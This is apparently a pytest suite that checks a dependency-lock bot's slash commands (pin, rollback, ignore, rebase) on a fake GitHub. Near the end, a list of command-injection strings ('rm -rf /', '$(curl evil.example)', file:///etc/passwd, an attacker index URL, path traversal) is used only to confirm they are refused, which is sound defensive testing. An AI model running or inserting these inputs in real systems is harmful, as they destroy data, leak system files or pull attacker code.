"""Slash commands end to end: a comment on the fake GitHub -> the receiver -> a command job
-> the spec, the locks and the pull request change (or a clear refusal, with nothing run)."""

from __future__ import annotations

from typing import Any

import pytest

from bot.jobs.branches import REFRESH_BRANCH, ROLLBACK_BRANCH
from tests.commands.conftest import REPO, World

pytestmark = pytest.mark.slow


def test_the_full_refresh_proposes_the_new_versions(world: World) -> None:
    assert "beta==2.0.0" in world.file("requirements/serve.txt")
    assert "gamma==1.1.0" in world.file("requirements/train.txt")


def test_a_maintainer_pins_and_the_locks_and_the_pull_request_follow(world: World) -> None:
    before = world.fake.branches(REPO)[REFRESH_BRANCH]
    comment = world.comment("LGTM, but\n/lockwarden pin beta==1.1.0 -- breaks the tokenizer")

    spec = world.file("requirements/serve.in")
    assert (
        f"beta==1.1.0  # pinned by @alice in #{world.pull.number} (was: beta): breaks the tokenizer"
        in spec
    )
    assert "beta==1.1.0" in world.file("requirements/serve.txt")
    # train follows serve through -c serve.txt, and keeps its own upgrade
    train = world.file("requirements/train.txt")
    assert "beta==1.1.0" in train
    assert "gamma==1.1.0" in train
    assert world.fake.branches(REPO)[REFRESH_BRANCH] != before
    body = world.fake.pull(REPO, world.pull.number).body or ""
    assert "1.1.0" in body
    assert "2.0.0" not in body.split("### Rollback")[0].split("beta")[-1].split("\n")[0]
    reply = world.replies()[-1]
    assert "| `serve` | `beta` | 2.0.0 | 1.1.0 |" in reply
    assert reply.startswith("> `/lockwarden pin beta==1.1.0 -- breaks the tokenizer`\n\n@alice ")
    assert world.reactions(comment) == ["eyes", "rocket"]
    # one reply per command, edited in place: "working" then the result
    mine = [c for c in world.fake.comments(REPO, world.pull.number) if c.user.endswith("[bot]")]
    assert len([c for c in mine if "pin beta==1.1.0" in c.body]) == 1

    # unpin puts the spec back as it was and the upgrade returns
    world.comment("/lockwarden unpin beta")
    assert "pinned by" not in world.file("requirements/serve.in")
    assert world.file("requirements/serve.in") == world.file("requirements/serve.in", "main")
    assert "beta==2.0.0" in world.file("requirements/serve.txt")


def test_a_repin_remembers_the_first_pin_and_an_equal_pin_pushes_nothing(world: World) -> None:
    world.comment("/lockwarden pin beta==1.1.0 -- breaks the tokenizer")
    pinned = world.fake.branches(REPO)[REFRESH_BRANCH]
    pushes = len(world.fake.pushes)

    world.comment("/lockwarden pin beta==1.1.0", user="alice")

    assert "already pinned" in world.replies()[-1]
    assert world.fake.branches(REPO)[REFRESH_BRANCH] == pinned
    assert len(world.fake.pushes) == pushes

    world.comment("/lockwarden pin beta==1.0.0")
    spec = world.file("requirements/serve.in")
    number = world.pull.number
    assert f"beta==1.0.0  # pinned by @alice in #{number} (was: beta): breaks the tokenizer" in spec
    assert "beta==1.0.0" in world.file("requirements/serve.txt")

    world.comment("/lockwarden unpin beta")
    assert world.file("requirements/serve.in") == world.file("requirements/serve.in", "main")


def test_a_read_only_user_is_refused_and_nothing_runs(world: World) -> None:
    before = world.fake.branches(REPO)[REFRESH_BRANCH]
    pushes = len(world.fake.pushes)
    comment = world.comment("/lockwarden pin beta==1.1.0", user="bob")
    assert world.fake.branches(REPO)[REFRESH_BRANCH] == before
    assert len(world.fake.pushes) == pushes
    reply = world.replies()[-1]
    assert "write, maintain or admin permission" in reply
    assert "read" in reply
    assert "eyes" not in world.reactions(comment)


def test_rollback_of_one_package_keeps_the_other_changes(world: World) -> None:
    world.comment("/lockwarden rollback beta")
    spec = world.file("requirements/serve.in")
    assert f"beta==1.0.0  # rolled back by @alice in #{world.pull.number}" in spec
    assert "beta==1.0.0" in world.file("requirements/serve.txt")
    train = world.file("requirements/train.txt")
    assert "beta==1.0.0" in train
    assert "gamma==1.1.0" in train  # the other change stays
    assert "| `serve` | `beta` | 2.0.0 | 1.0.0 |" in world.replies()[-1]


def test_rollback_without_packages_resets_and_closes_the_pull_request(world: World) -> None:
    world.comment("/lockwarden rollback")
    assert world.fake.pull(REPO, world.pull.number).state == "closed"
    assert REFRESH_BRANCH not in world.fake.branches(REPO)
    assert "closed" in world.reply_to("/lockwarden rollback")


def test_rollback_to_known_good_opens_a_rollback_pull_request(world: World) -> None:
    # the full refresh is merged too: now the newest known-good set is the current one
    merged = world.fake.merge_pull(REPO, world.pull.number, method="squash")
    assert "beta==2.0.0" in world.file("requirements/serve.txt", "main")
    world.comment("/lockwarden rollback --to known-good")
    rollback = world.open_pull(ROLLBACK_BRANCH)
    assert "beta==1.0.0" in world.file("requirements/serve.txt", ROLLBACK_BRANCH)
    assert "gamma==1.0.0" in world.file("requirements/train.txt", ROLLBACK_BRANCH)
    assert world.first_merge[:12] in (rollback.title + (rollback.body or ""))
    assert "Restored locks" in (rollback.body or "")
    assert merged != world.first_merge
    reply = world.replies()[-1]
    assert f"rollback to `known-good` (`{world.first_merge[:12]}`)" in reply
    assert f"#{rollback.number}" in reply

    # from an issue, with a git ref: the same rollback pull request is updated
    issue = world.fake.create_issue(REPO, "serve is broken since the refresh")
    world.comment(f"/lockwarden rollback --to {world.first_merge[:12]}", number=issue.number)
    assert world.open_pull(ROLLBACK_BRANCH).number == rollback.number
    assert f"#{rollback.number}" in world.replies(issue.number)[-1]

    # commands that need a Lockwarden pull request say so on an issue
    world.comment("/lockwarden rebase", number=issue.number)
    assert "Lockwarden's pull requests" in world.replies(issue.number)[-1]


INJECTIONS = [
    "/lockwarden pin numpy==1.0; rm -rf /",
    "/lockwarden pin --index-url http://evil.example beta",
    "/lockwarden pin -e git+https://github.com/evil/evil",
    '/lockwarden pin "beta @ file:///etc/passwd"',
    "/lockwarden pin beta @ file:///etc/passwd",
    '/lockwarden pin "beta==1.0\nrm -rf /"',
    "/lockwarden pin $(curl evil.example)",
    "/lockwarden pin `id`",
    "/lockwarden frobnicate beta",
    "/lockwarden pin beta==1.0 --env ../../etc",
    "/lockwarden pin beta==1.1.0\n" + "x" * 61_440,
]


def test_injection_attempts_are_refused_and_nothing_is_written(world: World) -> None:
    before = world.fake.branches(REPO)
    pushes = len(world.fake.pushes)
    for attempt in INJECTIONS:
        replies = len(world.replies())
        comment = world.comment(attempt)
        new = world.replies()[replies:]
        assert new, attempt
        assert all("not run" in reply for reply in new), (attempt, new)
        assert all(len(reply) < 3_000 for reply in new), attempt
        assert world.reactions(comment) == ["confused"], attempt
    assert world.fake.branches(REPO) == before
    assert len(world.fake.pushes) == pushes


def test_unknown_environments_and_versions_get_a_clear_reply(world: World) -> None:
    before = world.fake.branches(REPO)
    world.comment("/lockwarden pin beta==1.1.0 --env prod")
    assert (
        "unknown environment `prod`; this repository has `serve`, `train`" in (world.replies()[-1])
    )
    comment = world.comment("/lockwarden pin beta==9.9.9")
    reply = world.replies()[-1]
    assert "nothing was changed" in reply
    assert "serve" in reply
    assert world.reactions(comment)[-1] == "confused"
    assert world.fake.branches(REPO) == before


def test_an_edited_comment_runs_again_only_when_its_commands_change(world: World) -> None:
    payload = world.fake.payload(
        "issue_comment", "created", repo=REPO, number=world.pull.number, body="/lockwarden help"
    )
    jobs = world.bot.deliver("issue_comment", payload)
    assert len(jobs) == 1
    world.bot.run_all(jobs)
    assert "/lockwarden pin" in world.replies()[-1]
    comment: Any = payload["comment"]
    comment_id = int(comment["id"])

    # the same command text again (a second delivery of it): nothing new
    assert world.bot.deliver("issue_comment", payload) == []
    # prose edited around an unchanged command: not run again
    edited = world.fake.payload(
        "issue_comment",
        "edited",
        repo=REPO,
        comment_id=comment_id,
        body="thanks!\n/lockwarden help",
    )
    assert world.bot.deliver("issue_comment", edited) == []
    # a changed command runs, with its own reply
    replies = len(world.replies())
    edited = world.fake.payload(
        "issue_comment",
        "edited",
        repo=REPO,
        comment_id=comment_id,
        body="/lockwarden explain beta",
    )
    jobs = world.bot.deliver("issue_comment", edited)
    assert len(jobs) == 1
    world.bot.run_all(jobs)
    assert len(world.replies()) == replies + 1
    explained = world.replies()[-1]
    assert "beta ← -r requirements/serve.in" in explained
    assert "1.0.0 → 2.0.0" in explained


def test_ignore_keeps_a_version_out_and_unignore_brings_it_back(world: World) -> None:
    world.comment('/lockwarden ignore beta ">=2" -- waiting for the 2.x migration')
    rules = world.file(".github/lockwarden-ignore.txt")
    assert "beta>=2" in rules
    assert "@alice" in rules
    serve = world.file("requirements/serve.txt")
    assert "beta==1.1.0" in serve
    assert "lockwarden-ignore" not in serve
    world.comment("/lockwarden refresh")
    assert "beta==1.1.0" in world.file("requirements/serve.txt")

    world.comment("/lockwarden unignore beta")
    world.comment("/lockwarden refresh --package beta")
    assert "beta==2.0.0" in world.file("requirements/serve.txt")


def test_rebase_keeps_the_edits_on_a_newer_default_branch(world: World) -> None:
    world.comment("/lockwarden pin beta==1.1.0")
    world.fake.push_files(REPO, {"README.md": "# ml\n"})
    world.comment("/lockwarden rebase")
    head = world.fake.log(REPO, REFRESH_BRANCH)
    assert head[1].sha == world.fake.branches(REPO)["main"]
    assert "beta==1.1.0" in world.file("requirements/serve.txt")
    assert "pinned by @alice" in world.file("requirements/serve.in")
